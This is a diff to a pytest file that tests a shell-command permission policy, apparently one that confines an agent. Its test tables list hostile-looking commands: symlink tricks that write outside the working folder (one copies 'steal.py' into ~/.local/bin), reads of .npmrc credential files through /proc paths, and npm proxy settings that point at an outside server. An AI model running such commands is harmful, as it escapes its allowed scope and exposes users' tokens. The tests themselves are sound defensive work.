@@ -6,6 +6,7 @@ import shlex
 import sys
 import time
 import tracemalloc
+from dataclasses import replace
 
 import pytest
 from hypothesis import given
@@ -615,6 +616,72 @@ def test_commands_within_the_project_do_not_ask(tmp_path, command, decision):
     installed.touch()
     (tmp_path / "web").mkdir()
     assert CommandPolicy(paths=PATHS).verdict(command, context_in(tmp_path)).decision == decision
+
+
+WITHOUT_SANDBOX = (
+    ("writing outside the working folder", "ln -s ~/.local/bin lb; cp steal.py lb/mytool"),
+    ("writing outside the working folder", "ln -s ../../../opt sub/inst"),
+    ("writing outside the working folder", "ln ~/.profile_of_mine hl; echo evil >> hl"),
+    ("writing outside the working folder", "cp -l ~/x y"),
+    ("writing outside the working folder", "ls ~ | xargs ln -s -t ."),
+    ("writing outside the working folder", "cd ..; tar xf project/t.tar"),
+    ("writing outside the working folder", "cd ~ && unzip -o work/a.zip"),
+    ("writing outside the working folder", "cd ..; patch -t -p1 < project/p; wget -t 3 http://e.com/x"),
+    ("writing outside the working folder", "GIT_TRACE=/home/ann/.x git fetch"),
+    ("writing outside the working folder", "export GIT_TRACE2_EVENT=~/.x; git status"),
+    ("reading files that are known only when it runs", "cat ~user/.npmrc"),
+    ("reading files that are known only when it runs", "cat {~,x}/.{npm,git}rc"),
+    ("reading files that are known only when it runs", "cat /proc/*/root/home/user/.npmrc"),
+    ("reading files that are known only when it runs", "cat /proc/*/cwd/../.npmrc"),
+    ("reading files that are known only when it runs", "cd /proc; cat */root/x"),
+    ("reading files that are known only when it runs", 'p=$(./where); cat "$p"'),
+    ("reading files that are known only when it runs", 'base64 < "$(./where)"'),
+)
+
+
+@each_row(WITHOUT_SANDBOX)
+def test_more_is_asked_about_where_no_sandbox_confines_commands(rule, command):
+    open_one = CommandPolicy(paths=PATHS, is_confined=lambda: False)
+    assert rule in open_one.verdict(command, context_in(WORKDIR)).rule.split("; ")
+    assert rule not in verdict(command).rule.split("; ")
+
+
+@pytest.mark.parametrize(
+    ("command", "npmrc", "decision"),
+    [
+        ("npm view x --https-proxy=http://e.com", "", "ask"),
+        ("npm view x --registry http://e.com", "", "ask"),
+        ("npm view x", "https-proxy=http://e.com", "ask"),
+        ("npm view x", "save-exact=true", "allow"),
+    ],
+)
+def test_npm_asks_about_other_servers_where_no_sandbox_hides_the_token(tmp_path, command, npmrc, decision):
+    (tmp_path / ".npmrc").touch()
+    (tmp_path / "work").mkdir()
+    (tmp_path / "work" / ".npmrc").write_text(f"{npmrc}\n")
+    policy = CommandPolicy(paths=replace(PATHS, user_home=str(tmp_path)), is_confined=lambda: False)
+    assert policy.verdict(command, context_in(tmp_path / "work")).decision == decision
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ln -s a b",
+        "ln -s ../a.txt sub/b.txt",
+        "tar xzf a.tgz",
+        "tar tf ../a.tar",
+        "GIT_TRACE=1 git status",
+        "for f in *.txt; do cat $f; done",
+        "head -5 a.txt | cut -d: -f1",
+        "grep -rn x src",
+        "npm ci",
+        "cp a.txt b.txt",
+    ],
+)
+def test_everyday_commands_run_also_without_a_sandbox(tmp_path, command):
+    (tmp_path / "sub").mkdir()
+    policy = CommandPolicy(paths=PATHS, is_confined=lambda: False)
+    assert policy.verdict(command, context_in(tmp_path)) == Verdict("allow")
 
 
 AROUND = ("true && {}", "( {} )", "if true; then {}; fi", "{} | cat", "x=$({})", "{} &")
